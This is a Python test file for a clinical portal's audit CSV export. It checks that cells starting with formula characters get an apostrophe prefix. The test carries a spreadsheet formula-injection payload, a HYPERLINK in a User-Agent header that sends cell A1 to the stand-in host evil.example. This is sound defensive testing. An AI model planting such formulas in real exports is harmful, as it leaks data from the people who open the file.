"""Issue 16, item 6: a value a spreadsheet would run as a formula (a User-Agent of ``=HYPERLINK(…)``) is exported
inert: every CSV cell starting with = + - @, a tab or a carriage return gets a leading apostrophe."""

from __future__ import annotations

import csv
import io

import asyncpg
import httpx

from core.config import Settings
from core.identity import Role
from core.inputs import csv_cell
from core.staff import service as staff
from core.vault import Vault
from portal.app import create_app
from tests.support.factories import SYSTEM, make_patient
from tests.support.server import served

PASSWORD = "a long enough staff password"


async def test_the_audit_export_neutralises_formulas(settings: Settings, pool: asyncpg.Pool, vault: Vault) -> None:
    async with pool.acquire() as conn:
        p = await make_patient(conn, vault)
        for username, role in (("tech.csv", Role.LAB_TECHNICIAN), ("admin.csv", Role.ADMIN)):
            await staff.add(conn, username=username, display_name=username, role=role, password=PASSWORD, actor=SYSTEM)
    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    async with served(create_app(settings)) as client:
        tech, admin = [await _token(client, u) for u in ("tech.csv", "admin.csv")]
        await client.get(f"/api/staff/patients/{p.id}", headers={"Authorization": f"Bearer {tech}", "User-Agent": evil})
        export = await client.get(f"/api/admin/audit.csv?patient_id={p.id}",
                                  headers={"Authorization": f"Bearer {admin}"})  # fmt: skip
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert f"'{evil}" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


async def _token(client: httpx.AsyncClient, username: str) -> str:
    r = await client.post("/api/staff/session", json={"username": username, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return str(r.json()["token"])


def test_every_formula_prefix_is_neutralised_and_plain_values_are_not_touched() -> None:
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(value) == "'" + value
    assert [csv_cell(v) for v in ("Asha", "2026-12-06T10:00:00+05:30", 42, None)] == [
        "Asha", "2026-12-06T10:00:00+05:30", "42", ""
    ]  # fmt: skip
